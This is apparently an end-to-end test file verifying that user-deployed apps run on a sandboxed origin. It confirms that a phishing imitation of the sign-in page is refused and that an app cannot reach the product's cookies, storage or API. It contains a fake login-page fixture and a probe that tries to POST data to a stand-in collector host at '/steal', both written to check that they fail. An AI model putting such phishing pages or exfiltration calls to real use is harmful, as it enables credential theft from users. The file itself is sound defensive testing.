import { DashboardPage } from '../pages/dashboard-page';
import { SignInPage } from '../pages/sign-in-page';
import { expectVisible } from '../support/expect';
import { describe, expect, test } from '../support/fixtures';
import { createVerifiedUser } from '../support/users';

/** An app built to misbehave: it imitates the product's sign-in page (a password field, refused at build time). */
const PHISHING_APP = [
  {
    path: 'index.html',
    content:
      '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Sign in — Ultimate Co-founder</title></head>\n<body><h1>Sign in — Ultimate Co-founder</h1><form id="f"><label>Email <input name="email"></label><label>Password <input name="password" type="password"></label><button>Sign in</button></form>\n<script type="module" src="/main.js"></script>\n</body></html>\n',
  },
  { path: 'main.js', content: "document.body.dataset.ready = 'yes';\n" },
];
/** The same imitation without the password field: it builds, and the sandbox must still hold it. */
const IMITATION_APP = PHISHING_APP.map((f) => ({ ...f, content: f.content.replace(/<label>Password[^]*?<\/label>/, '') }));

async function api<T>(baseURL: string, path: string, init: RequestInit & { token?: string } = {}): Promise<T> {
  const headers = { ...(init.body ? { 'content-type': 'application/json' } : {}), ...(init.token ? { authorization: `Bearer ${init.token}` } : {}) };
  const res = await fetch(`${baseURL}${path}`, { ...init, headers });
  if (!res.ok) throw new Error(`${path} answered ${res.status}: ${await res.text()}`);
  return (await res.json()) as T;
}

describe('deployed apps on their own origin', () => {
  test("a deployed app opens on the apps origin and cannot reach the product's cookies, storage or API", async ({ page, baseURL }) => {
    const user = await createVerifiedUser(baseURL);
    const { access_token: token } = await api<{ access_token: string }>(baseURL, '/api/v1/auth/login', { method: 'POST', body: JSON.stringify({ email: user.email, password: user.password }) });
    // A page asking for a password is refused at build time: it can be neither previewed nor deployed.
    const phishing = await api<{ id: string }>(baseURL, '/api/v1/bolt/projects', { method: 'POST', token, body: JSON.stringify({ name: 'Sign in page', template: 'vanilla-js', files: PHISHING_APP }) });
    const refused = await fetch(`${baseURL}/api/v1/bolt/projects/${phishing.id}/deploy`, { method: 'POST', headers: { authorization: `Bearer ${token}` } });
    expect(refused.status).toBe(422);
    expect(await refused.text()).toMatch(/password/i);

    expect(IMITATION_APP[0].content).not.toContain('password');
    const project = await api<{ id: string }>(baseURL, '/api/v1/bolt/projects', { method: 'POST', token, body: JSON.stringify({ name: 'Sign in page', template: 'vanilla-js', files: IMITATION_APP }) });
    const { url } = await api<{ url: string }>(baseURL, `/api/v1/bolt/projects/${project.id}/deploy`, { method: 'POST', token });
    const { apps_origin: appsOrigin } = await api<{ apps_origin: string }>(baseURL, '/api/v1/config');
    const product = new URL(baseURL).origin;
    expect(new URL(url).origin).toBe(appsOrigin);
    expect(appsOrigin).not.toBe(product);

    // The founder is signed in on the product: a session in storage, a refresh cookie, and one more cookie of our own.
    await (await new SignInPage(page).goto()).signIn(user.email, user.password);
    await new DashboardPage(page).expectShown(user.name);
    await page.context().addCookies([{ name: 'probe', value: 'product-secret', url: product }]);

    // The product's origin does not serve the app (development: it sends the visitor on to the apps origin).
    const viaProduct = await fetch(`${product}${new URL(url).pathname}`, { redirect: 'manual' });
    expect(viaProduct.status).toBe(302);
    expect(viaProduct.headers.get('location')).toBe(url);

    const app = await page.context().newPage();
    const response = await app.goto(url);
    expect(response!.status()).toBe(200);
    expect(new URL(app.url()).origin).toBe(appsOrigin);
    await expect.poll(() => app.evaluate(() => document.body.dataset.ready)).toBe('yes');
    await expectVisible(app.getByText('Built with'));

    const probe = await app.evaluate(async (productOrigin) => {
      const attempt = async (f: () => unknown) => {
        try {
          return { ok: true, value: String(await f()) };
        } catch (e) {
          return { ok: false, value: (e as Error).name };
        }
      };
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const cookie = await attempt(() => document.cookie);
      const storage = await attempt(() => localStorage.length);
      const me = await attempt(() => fetch(`${productOrigin}/api/v1/auth/me`, { credentials: 'include' }).then((r) => r.status));
      const exfiltrate = await attempt(() => fetch('https://collector.example.test/steal', { method: 'POST', body: 'x' }).then((r) => r.status));
      // A form posting the visitor's details to the product (or anywhere) is refused by form-action 'none'.
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${productOrigin}/api/v1/auth/login`;
      document.body.append(form);
      form.submit();
      await new Promise((r) => setTimeout(r, 1000));
      return { origin: window.origin, cookie, storage, me, exfiltrate, violations, stillHere: document.body.dataset.ready };
    }, product);

    expect(probe.origin).toBe('null'); // an opaque origin: the sandbox holds
    expect(probe.cookie.ok && probe.cookie.value.includes('product-secret')).toBe(false);
    expect(probe.storage.ok).toBe(false);
    expect(probe.me).toEqual({ ok: false, value: 'TypeError' });
    expect(probe.exfiltrate).toEqual({ ok: false, value: 'TypeError' });
    expect(probe.violations).toEqual(expect.arrayContaining(['connect-src', 'form-action']));
    expect(probe.stillHere).toBe('yes');

    // The footer's Report link opens the report form on the apps origin; the report is stored for the admin.
    // (A fresh page: the refused form post above leaves the first one waiting on a navigation that never happens.)
    await app.close();
    const visitor = await page.context().newPage();
    await visitor.goto(url);
    await visitor.getByRole('link', { name: 'Report' }).click();
    await expectVisible(visitor.getByRole('heading', { name: 'Report this app' }));
    expect(new URL(visitor.url()).origin).toBe(appsOrigin);
    await visitor.getByLabel('What is wrong?').selectOption('phishing');
    await visitor.getByLabel('Details').fill('It imitates the sign-in page');
    await visitor.getByRole('button', { name: 'Send report' }).click();
    await expectVisible(visitor.getByRole('heading', { name: 'Thank you' }));
  });
});
